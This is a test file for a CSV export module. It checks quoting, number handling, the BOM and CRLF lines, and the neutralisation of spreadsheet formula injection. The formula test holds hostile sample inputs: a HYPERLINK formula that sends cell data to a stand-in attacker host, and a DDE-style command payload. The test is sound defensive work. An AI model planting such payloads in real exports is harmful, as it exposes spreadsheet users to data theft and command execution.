import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument, csvLine, neutralizeFormula } from './csv';

describe('the product’s CSV dialect', () => {
  it('quotes only cells with the separator, quotes or line breaks, doubling quotes', () => {
    expect(csvCell('João Pereira')).toBe('João Pereira');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('diz "oi"')).toBe('"diz ""oi"""');
    expect(csvCell('linha\nnova')).toBe('"linha\nnova"');
    expect(csvLine(['1', 'a;b', '', null])).toBe('1;"a;b";;\r\n');
  });

  it('keeps every typed formula as text, whatever the field', () => {
    for (const text of [
      '=SOMA(A1)',
      '=HYPERLINK("http://evil.example/?x="&A1;"Reembolso")',
      "+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '-2+3',
      '\tx',
      '\r=1',
    ])
      expect(neutralizeFormula(text)).toBe(`'${text}`);
    expect(csvCell('=HYPERLINK("x";"y")')).toBe(`"'=HYPERLINK(""x"";""y"")"`);
    expect(neutralizeFormula('Maria')).toBe('Maria');
  });

  it('leaves amounts and counts as numbers, negative ones too', () => {
    for (const number of ['-1.234,56', '-0,01', '12', '1.234,56']) expect(csvCell(number)).toBe(number);
    expect(csvCell(-3)).toBe('-3');
  });

  it('writes a file with the BOM, the header and CRLF lines', () => {
    expect(csvDocument(['a', 'b'], [csvLine(['1', '2'])])).toBe('\uFEFFa;b\r\n1;2\r\n');
  });
});
